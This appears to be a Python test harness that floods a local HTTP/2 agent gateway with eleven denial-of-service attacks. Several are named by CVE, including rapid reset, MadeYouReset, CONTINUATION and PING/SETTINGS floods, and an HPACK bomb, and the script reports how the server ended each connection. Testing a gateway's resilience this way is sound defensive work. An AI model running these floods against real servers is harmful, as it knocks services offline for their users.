"""Floods of HTTP/2 made with PyPI h2 and hyperframe.

`--flood NAME --seconds S --port N [--ca FILE] [--token TEXT]`: attacks 127.0.0.1, over TLS if there is a CA, on one
connection after another for as long as told. Prints one JSON line: how many frames were sent, on how many
connections, and how these ended.
"""

import argparse
import json
import select
import socket
import ssl
import time
from collections import Counter

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hyperframe.frame as frames

AT_ONCE = 200
BODY = json.dumps({
    "jsonrpc": "2.0", "id": 1, "method": "SendMessage",
    "params": {"message": {"messageId": "m", "role": "ROLE_USER", "parts": [{"text": "message hello"}]}},
}).encode()


class Ended(Exception):
    """The gateway closed the connection; says how."""


class Connection:
    """One connection of an attacker: a client that keeps no rules."""

    def __init__(self, target: "Target", **settings: int) -> None:
        self.socket = target.open()
        self.headers = target.headers
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.peer = h2.connection.H2Connection(config)
        self.peer.initiate_connection()
        if settings:
            changed = {h2.settings.SettingCodes[name.upper()]: value for name, value in settings.items()}
            self.peer.update_settings(changed)
        self.stream = 1
        self.sent = 0
        self.buffer = bytearray()
        self.reads = True
        self.flush()

    def next(self) -> int:
        self.stream += 2
        return self.stream

    def block(self, method: str = "POST", path: str = "/agents/py1-jsonrpc", more: tuple = ()) -> bytes:
        fields = [(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path)]
        fields += [("content-type", "application/json"), ("a2a-version", "1.0"), *self.headers, *more]
        return self.peer.encoder.encode(fields)

    def request(self, flags: tuple = (), **what) -> int:
        """HEADERS of a request that goes on."""
        stream = self.next()
        self.put(frames.HeadersFrame(stream, self.block(**what), flags=["END_HEADERS", *flags]))
        return stream

    def put(self, frame: frames.Frame | bytes) -> None:
        self.buffer += frame if isinstance(frame, bytes) else frame.serialize()
        self.sent += 1
        if len(self.buffer) > 32 * 1024:
            self.flush()

    def flush(self) -> None:
        self.buffer[:0] = self.peer.data_to_send()
        deadline = time.monotonic() + 1
        while self.buffer:
            if time.monotonic() > deadline:
                raise Ended("reads no more")
            if self.reads:
                self.hear(0)
            try:
                del self.buffer[: self.socket.send(self.buffer)]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                select.select([self.socket], [self.socket], [], 0.05)
            except OSError as error:
                self.hear(0)
                raise Ended(type(error).__name__) from error

    def hear(self, seconds: float) -> None:
        """Reads what has come; notices the end."""
        if seconds:
            select.select([self.socket], [], [], seconds)
        try:
            data = self.socket.recv(65536)
        except (ssl.SSLWantReadError, BlockingIOError):
            return
        except OSError as error:
            raise Ended(type(error).__name__) from error
        if not data:
            raise Ended("closed")
        at = 0
        # GOAWAY, looked for by hand: the rules that h2 keeps are those that the flood breaks.
        while at + 9 <= len(data):
            length, kind = int.from_bytes(data[at : at + 3], "big"), data[at + 3]
            if kind == 7 and length >= 8 and at + 17 <= len(data):
                code = int.from_bytes(data[at + 13 : at + 17], "big")
                raise Ended(f"GOAWAY {code}")
            at += 9 + length


class Target:
    def __init__(self, port: int, ca: str | None, token: str | None) -> None:
        self.port = port
        self.headers = [("authorization", f"Bearer {token}")] if token else []
        self.context = None
        if ca:
            self.context = ssl.create_default_context(cafile=ca)
            self.context.set_alpn_protocols(["h2"])

    def open(self) -> socket.socket:
        plain = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        one = self.context.wrap_socket(plain, server_hostname="localhost") if self.context else plain
        one.setblocking(False)
        return one


def rapid_reset(one: Connection) -> None:
    """CVE-2023-44487: requests that are taken back at once."""
    stream = one.request()
    one.put(frames.DataFrame(stream, BODY, flags=["END_STREAM"]))
    one.put(frames.RstStreamFrame(stream, error_code=8))


def made_you_reset(one: Connection) -> None:
    """CVE-2025-8671: whole requests, then a window beyond its bounds, so that it is the server who resets them."""
    stream = one.request()
    one.put(frames.DataFrame(stream, BODY, flags=["END_STREAM"]))
    one.put(frames.WindowUpdateFrame(stream, window_increment=2**31 - 1))


def continuation(one: Connection) -> None:
    """Headers without end."""
    if one.stream == 1:
        one.put(frames.HeadersFrame(one.next(), one.block()))
    one.put(frames.ContinuationFrame(one.stream, one.peer.encoder.encode([("x-more", "x" * 4000)])))


def empty_continuation(one: Connection) -> None:
    """Headers without end that hold nothing."""
    if one.stream == 1:
        one.put(frames.HeadersFrame(one.next(), one.block()))
    one.put(frames.ContinuationFrame(one.stream, b""))


def empty_data(one: Connection) -> None:
    """CVE-2019-9518: a body of frames that hold nothing."""
    if one.stream == 1:
        one.request()
    one.put(frames.DataFrame(one.stream, b""))


def settings(one: Connection) -> None:
    """CVE-2019-9515: settings whose acknowledgements nobody reads."""
    one.reads = False
    one.put(frames.SettingsFrame(0, settings={4: 65535}))


def ping(one: Connection) -> None:
    """CVE-2019-9512: pings whose answers nobody reads."""
    one.reads = False
    one.put(frames.PingFrame(0, b"12345678"))


def hpack_bomb(one: Connection) -> None:
    """A long header in the table, and thousands of one-byte references to it."""
    value = b"x" * 3900
    length = b"\x7f" + b"\xbd\x1d"
    assert 127 + (0xBD & 0x7F) + (0x1D << 7) == len(value)
    entry = b"\x40\x05x-big" + length + value
    one.put(frames.HeadersFrame(one.next(), one.block() + entry + b"\xbe" * 10000, flags=["END_HEADERS", "END_STREAM"]))


def many_streams(one: Connection) -> None:
    """Requests that are begun and never ended, more than may be."""
    one.request()
    one.put(frames.DataFrame(one.stream, BODY[:40]))


def shut_window(one: Connection) -> None:
    """Answers that are asked for and never taken: no window is opened for them."""
    one.request(("END_STREAM",), method="GET", path="/agents/py1-jsonrpc/.well-known/agent-card.json")


def priority(one: Connection) -> None:
    """CVE-2019-9513: streams that are shuffled without end."""
    one.put(frames.PriorityFrame(one.next(), depends_on=0, stream_weight=7, exclusive=True))


FLOODS = {
    "rapid_reset": rapid_reset, "made_you_reset": made_you_reset, "continuation": continuation,
    "empty_continuation": empty_continuation, "empty_data": empty_data, "settings": settings, "ping": ping,
    "hpack_bomb": hpack_bomb, "many_streams": many_streams, "shut_window": shut_window, "priority": priority,
}
# Floods that are held open on many connections, so many steps on each.
HELD = {"many_streams": AT_ONCE + 50, "shut_window": AT_ONCE - 1}
CONNECTIONS = 20
OPTIONS = {"shut_window": {"initial_window_size": 0}}


def flood(name: str, target: Target, seconds: float) -> dict:
    deadline, frames_sent, ended, held = time.monotonic() + seconds, 0, Counter(), []
    connections = 0
    while time.monotonic() < deadline:
        if name in HELD and len(held) == CONNECTIONS:
            time.sleep(0.1)
            continue
        try:
            one = Connection(target, **OPTIONS.get(name, {}))
        except OSError as error:
            ended[f"not let in: {type(error).__name__}"] += 1
            time.sleep(0.05)
            continue
        connections += 1
        try:
            steps = 0
            while time.monotonic() < deadline and steps < HELD.get(name, 10**9):
                FLOODS[name](one)
                steps += 1
            one.flush()
            held.append(one)
        except Ended as end:
            ended[str(end)] += 1
            if name in HELD:
                held.append(one)
            else:
                one.socket.close()
        frames_sent += one.sent
    return {"flood": name, "frames": frames_sent, "connections": connections, "ended": dict(ended)}


def main() -> None:
    parser = argparse.ArgumentParser(description="Floods of HTTP/2.")
    parser.add_argument("--flood", choices=FLOODS, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca")
    parser.add_argument("--token")
    flags = parser.parse_args()
    print(json.dumps(flood(flags.flood, Target(flags.port, flags.ca, flags.token), flags.seconds)))


if __name__ == "__main__":
    main()
